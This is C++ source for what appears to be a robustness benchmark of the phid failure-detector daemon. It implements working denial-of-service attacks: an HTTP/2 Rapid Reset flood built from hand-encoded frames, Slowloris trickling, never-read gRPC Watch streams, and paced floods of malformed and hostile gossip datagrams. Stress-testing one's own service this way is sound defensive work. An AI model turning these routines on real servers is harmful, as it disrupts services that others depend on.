#include "tools/bench/abuse_attacks.h"

#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>

#include <thread>

#include "absl/time/clock.h"
#include "gossip/packet_codec.h"
#include "grpcpp/create_channel_posix.h"
#include "proto/duration.h"
#include "tests/garbage_packets.h"
#include "tools/bench/abuse_probes.h"

namespace phid {
namespace {

namespace v1 = ::phi::v1;

// HTTP/2 frames by hand: HEADERS for ListPeers, then RST_STREAM(CANCEL).
void Frame(std::string* out, uint8_t type, uint8_t flags, uint32_t stream,
           const std::string& payload) {
  const uint32_t len = static_cast<uint32_t>(payload.size());
  out->push_back(static_cast<char>(len >> 16));
  out->push_back(static_cast<char>(len >> 8));
  out->push_back(static_cast<char>(len));
  out->push_back(static_cast<char>(type));
  out->push_back(static_cast<char>(flags));
  for (int shift : {24, 16, 8, 0}) {
    out->push_back(static_cast<char>((stream >> shift) & 0xff));
  }
  out->append(payload);
}

std::string Literal(const std::string& s) {
  return std::string(1, static_cast<char>(s.size())) + s;
}

std::string HeaderBlock() {
  std::string b;
  b += '\x83';                                                 // :method POST
  b += '\x86';                                                 // :scheme http
  b += '\x04' + Literal("/phi.v1.FailureDetector/ListPeers");  // :path
  b += '\x01' + Literal("x");                                  // :authority
  b += std::string("\x0f\x10", 2) + Literal("application/grpc");
  b += '\x00' + Literal("te") + Literal("trailers");
  return b;
}

}  // namespace

uint64_t RapidReset(const std::string& address, const std::atomic<bool>& stop,
                    std::atomic<uint64_t>* bytes) {
  auto [ip, port] = SplitAddress(address);
  uint64_t streams = 0;
  const std::string block = HeaderBlock();
  const std::string rst_payload("\0\0\0\x08", 4);
  while (!stop) {
    int fd = ConnectFrom("", ip, port);
    if (fd < 0) {
      absl::SleepFor(absl::Milliseconds(50));
      continue;
    }
    std::string hello = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    Frame(&hello, 4, 0, 0, "");  // SETTINGS
    Frame(&hello, 4, 1, 0, "");  // ACK of the server's (it sends them first)
    send(fd, hello.data(), hello.size(), MSG_NOSIGNAL);
    std::atomic<bool> closed{false};
    std::thread drain([fd, &closed] {
      char buffer[65536];
      while (recv(fd, buffer, sizeof buffer, 0) > 0) {
      }
      closed = true;
    });
    uint32_t id = 1;
    while (!stop && !closed && id < (1u << 30)) {
      std::string burst;
      for (int i = 0; i < 100; ++i, id += 2) {
        Frame(&burst, 1, 0x4, id, block);  // HEADERS, END_HEADERS
        Frame(&burst, 3, 0, id, rst_payload);
      }
      if (send(fd, burst.data(), burst.size(), MSG_NOSIGNAL) <= 0) break;
      *bytes += burst.size();
      streams += 100;
    }
    shutdown(fd, SHUT_RDWR);
    drain.join();
    close(fd);
  }
  return streams;
}

NonReadingWatchers::NonReadingWatchers(const std::string& address,
                                       const std::string& source_ip, int count,
                                       const std::atomic<bool>& stop) {
  auto [ip, port] = SplitAddress(address);
  v1::WatchRequest request;
  ToProtoDuration(absl::Milliseconds(100), request.mutable_level_interval());
  for (int i = 0; i < count && !stop; ++i) {
    if (i % 50 == 0) {
      grpc::ChannelArguments args;
      args.SetInt(GRPC_ARG_HTTP2_STREAM_LOOKAHEAD_BYTES, 1024);
      args.SetInt(GRPC_ARG_HTTP2_BDP_PROBE, 0);
      int fd = ConnectFrom(source_ip, ip, port);
      stubs_.push_back(v1::FailureDetector::NewStub(
          grpc::CreateCustomInsecureChannelFromFd(address, fd, args)));
    }
    contexts_.push_back(std::make_unique<grpc::ClientContext>());
    readers_.push_back(stubs_.back()->Watch(contexts_.back().get(), request));
  }
}

NonReadingWatchers::~NonReadingWatchers() {
  for (auto& c : contexts_) c->TryCancel();
  readers_.clear();
  contexts_.clear();
  stubs_.clear();
}

void Slowloris(const std::string& address, const std::string& source_ip,
               int connections, const std::atomic<bool>& stop) {
  auto [ip, port] = SplitAddress(address);
  std::vector<int> fds(connections, -1);
  const std::string req = "GET /metrics HTTP/1.1\r\nHost: x\r\nX-a: ";
  std::vector<size_t> sent(fds.size(), 0);
  while (!stop) {
    for (size_t i = 0; i < fds.size(); ++i) {
      if (fds[i] < 0) {
        fds[i] = ConnectFrom(source_ip, ip, port);
        sent[i] = 0;
      }
      char c = sent[i] < req.size() ? req[sent[i]] : 'a';
      if (fds[i] >= 0 && send(fds[i], &c, 1, MSG_NOSIGNAL) != 1) {
        close(fds[i]);
        fds[i] = -1;  // cut by the server: come back at once
      } else {
        ++sent[i];
      }
    }
    absl::SleepFor(absl::Seconds(1));
  }
  for (int fd : fds) {
    if (fd >= 0) close(fd);
  }
}

PacedDatagramSender::PacedDatagramSender(const std::string& address, int rate)
    : fd_(socket(AF_INET, SOCK_DGRAM, 0)), rate_(rate), start_(absl::Now()) {
  auto [ip, port] = SplitAddress(address);
  to_.sin_family = AF_INET;
  to_.sin_port = htons(static_cast<uint16_t>(port));
  inet_pton(AF_INET, ip.c_str(), &to_.sin_addr);
}

PacedDatagramSender::~PacedDatagramSender() { close(fd_); }

void PacedDatagramSender::Send(const std::string& bytes) {
  sendto(fd_, bytes.data(), bytes.size(), 0, reinterpret_cast<sockaddr*>(&to_),
         sizeof to_);
  ++sent_;
  if (sent_ % 100 == 0) {
    absl::Time due = start_ + absl::Seconds(1) * (sent_ / double(rate_));
    if (due > absl::Now()) absl::SleepFor(due - absl::Now());
  }
}

uint64_t SendGarbage(const std::string& gossip_address,
                     const std::string& target,
                     const std::vector<std::string>& members, uint64_t limit,
                     int rate, const std::atomic<bool>& stop) {
  const PacketCodec codec("phid", nullptr, /*wire_version=*/2);
  e2e::GarbagePackets garbage("phid", gossip_address, members, 14,
                              /*wire_version=*/2);
  PacedDatagramSender sender(gossip_address, rate);
  while (!stop && sender.sent() < limit) {
    e2e::GarbagePackets::Datagram d = garbage.Next();
    // The few damaged packets still valid would be real gossip (ghost
    // members): not sent, as in e2e_garbage_test.
    if (e2e::ExpectedDrop(codec, target, d.bytes) == DropReason::kNone) {
      continue;
    }
    sender.Send(d.bytes);
  }
  return sender.sent();
}

uint64_t SendHostile(const std::string& gossip_address,
                     const std::string& target,
                     const std::vector<HostileDatagrams::Member>& members,
                     uint64_t limit, int rate, const std::atomic<bool>& stop,
                     std::map<std::string, uint64_t>* kinds) {
  HostileDatagrams hostile(target, members, 12);
  PacedDatagramSender sender(gossip_address, rate);
  while (!stop && sender.sent() < limit) {
    HostileDatagrams::Datagram d = hostile.Next();
    sender.Send(d.bytes);
    ++(*kinds)[d.kind];
  }
  return sender.sent();
}

}  // namespace phid
